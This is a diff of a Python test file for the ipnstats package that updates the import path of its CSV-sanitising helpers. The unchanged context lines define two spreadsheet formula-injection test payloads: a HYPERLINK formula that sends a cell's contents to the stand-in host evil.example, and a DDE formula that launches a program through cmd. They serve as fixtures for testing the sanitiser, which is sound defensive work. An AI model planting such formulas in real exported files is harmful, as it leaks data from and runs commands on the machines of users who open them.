@@ -19,7 +19,7 @@ from conftest import ROOT
 import ipnstats
 from ipnstats import cli
 from ipnstats.cli import main
-from ipnstats.csvsafe import neutralise, neutralise_frame, write_csv
+from ipnstats.core.csvsafe import neutralise, neutralise_frame, write_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
